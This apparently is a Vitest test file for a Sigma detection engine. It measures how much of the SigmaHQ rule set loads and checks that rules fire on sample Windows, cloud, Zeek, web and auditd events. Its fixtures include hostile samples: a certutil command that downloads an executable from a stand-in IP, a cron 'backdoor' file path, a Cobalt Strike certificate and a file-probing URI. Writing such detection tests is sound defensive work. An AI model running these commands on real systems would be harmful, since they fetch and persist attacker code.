import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { coverageMarkdown, sigmaCoverage, type CoverageReport } from '../../src/detection/sigma/coverage.js';
import { loadRules, type LoadResult } from '../../src/detection/sigma/loader.js';
import { DetectionEngine } from '../../src/detection/engine.js';
import { datasets, repoRoot } from './helpers.js';

const dir = path.join(datasets, 'sigmahq');
/** How the folder is named in docs/detection.md (the script that writes it uses the same). */
const FOLDER = '../shared/datasets/sigmahq';

describe('SigmaHQ load coverage (../shared/datasets/sigmahq, every family)', () => {
  let c: CoverageReport;
  let loaded: LoadResult;
  beforeAll(async () => {
    c = await sigmaCoverage(dir);
    loaded = await loadRules([dir]);
  });

  it('loads at least 95 % of the rules; every refusal names a feature that cannot be evaluated, none is a missing logsource', () => {
    console.log(`SigmaHQ coverage: ${c.loaded} loaded, ${c.refused} refused of ${c.files} files`);
    console.log('families:', Object.fromEntries(c.families.map((f) => [f.name, `${f.loaded}/${f.loaded + f.refused}`])));
    console.log('refusals by reason:', Object.fromEntries(c.reasons.map((r) => [r.feature, r.files])));
    expect(c.files).toBe(1078);
    // One rule per file: each file lands on exactly one side.
    expect(c.loaded + c.refused).toBe(c.files);
    expect(c.loaded / c.files).toBeGreaterThanOrEqual(0.95);
    for (const r of loaded.refusals) {
      expect(r.feature).not.toBe('logsource');
      expect(r.feature).not.toBe('yaml');
      expect(r.message).toMatch(/\S{3,}/);
      expect(r.line).toBeGreaterThan(0);
    }
  });

  it('every family of the folder has a mapping: Windows, Linux, each cloud, network, web, emerging threats, threat hunting', () => {
    const byName = new Map(c.families.map((f) => [f.name, f]));
    for (const fam of ['windows', 'linux', 'cloud/aws', 'cloud/azure', 'cloud/gcp', 'cloud/m365', 'network', 'web', 'emerging-threats', 'threat-hunting']) {
      const f = byName.get(fam);
      expect(f, fam).toBeDefined();
      expect(f!.loaded / (f!.loaded + f!.refused), fam).toBeGreaterThanOrEqual(0.95);
    }
    const names = new Set(c.logsources.map((l) => l.name));
    for (const ls of [
      'windows-process_creation',
      'windows-file_event',
      'windows-security',
      'linux-process_creation',
      'linux-file_event',
      'linux-network_connection',
      'aws-cloudtrail',
      'azure-signinlogs',
      'gcp-audit',
      'okta',
      'zeek-dns',
      'webserver',
      'proxy',
    ]) {
      expect(names.has(ls), ls).toBe(true);
    }
  });

  it('docs/detection.md carries the measured table (regenerate with: node scripts/sigma-coverage.mjs)', async () => {
    const doc = await readFile(path.join(repoRoot, 'docs/detection.md'), 'utf8');
    const m = /<!-- sigma-coverage:start -->\n([\s\S]*?)\n<!-- sigma-coverage:end -->/.exec(doc);
    expect(m, 'docs/detection.md has the sigma-coverage markers').not.toBeNull();
    expect(m![1]).toBe(coverageMarkdown(c, FOLDER));
  });

  it('loaded rules of each family fire on the ECS events their integration writes, and only behind their gate', () => {
    const engine = new DetectionEngine({ rules: loaded.rules, builtinExtractors: false });
    const titles = (rec: Record<string, unknown>) => (engine.evaluate({ ...rec }) ?? []).map((i) => engine.rules[i]!.title);
    // Winlogbeat Sysmon event 1.
    const sysmon = {
      'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
      'event.code': '1',
      'process.executable': 'C:\\Windows\\System32\\certutil.exe',
      'process.command_line': 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
      'process.pe.original_file_name': 'CertUtil.exe',
    };
    expect(titles(sysmon)).toContain('Suspicious Download Via Certutil.EXE');
    // The same fields on a Security 4624 event are not a process creation.
    expect(titles({ ...sysmon, 'winlog.channel': 'Security', 'event.code': '4624' })).not.toContain('Suspicious Download Via Certutil.EXE');
    // Security 4688 is one too.
    expect(titles({ ...sysmon, 'winlog.channel': 'Security', 'event.code': '4688' })).toContain('Suspicious Download Via Certutil.EXE');

    expect(titles({ 'event.dataset': 'aws.cloudtrail', 'event.provider': 'cloudtrail.amazonaws.com', 'event.action': 'StopLogging' })).toContain('AWS CloudTrail Important Change');
    expect(titles({ 'event.dataset': 'aws.cloudtrail', 'event.provider': 'cloudtrail.amazonaws.com', 'event.action': 'LookupEvents' })).not.toContain(
      'AWS CloudTrail Important Change',
    );
    expect(titles({ 'event.dataset': 'azure.signinlogs', 'azure.signinlogs.properties.device_detail.is_compliant': 'false' })).toContain('Sign-ins from Non-Compliant Devices');
    expect(titles({ 'event.dataset': 'zeek.x509', 'zeek.x509.certificate.serial': '8BB00EE' })).toContain('Default Cobalt Strike Certificate');
    expect(titles({ 'event.dataset': 'zeek.dns', 'dns.question.name': 'ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com' })).toContain('Wannacry Killswitch Domain');
    expect(titles({ 'url.original': '/x?f=C:/Windows/win.ini', 'url.query': 'f=C:/Windows/win.ini' })).toContain('Suspicious Windows Strings In URI');
  });

  it('Linux file_event rules fire on raw auditd PATH records through the built-in auditd extractor', () => {
    const engine = new DetectionEngine({ rules: loaded.rules.filter((r) => r.logsource.category === 'file_event' && r.logsource.product === 'linux') });
    const titles = (line: string) => [...engine.scanText(line).hits].filter((_, i) => i % 2 === 1).map((i) => engine.rules[i]!.title);
    expect(titles('type=PATH msg=audit(1700000000.123:42): item=1 name="/etc/cron.d/backdoor" inode=1234 dev=08:01 mode=0100644 nametype=CREATE')).toContain(
      'New Cron File Created',
    );
    expect(titles('type=PATH msg=audit(1700000000.123:42): item=1 name="/etc/cron.daily/apt" inode=1234 dev=08:01 mode=0100644 nametype=CREATE')).not.toContain(
      'New Cron File Created',
    );
    expect(titles('type=PATH msg=audit(1700000000.123:42): item=1 name="/tmp/x" inode=1234 dev=08:01 mode=0100644 nametype=CREATE')).toEqual([]);
  });
});
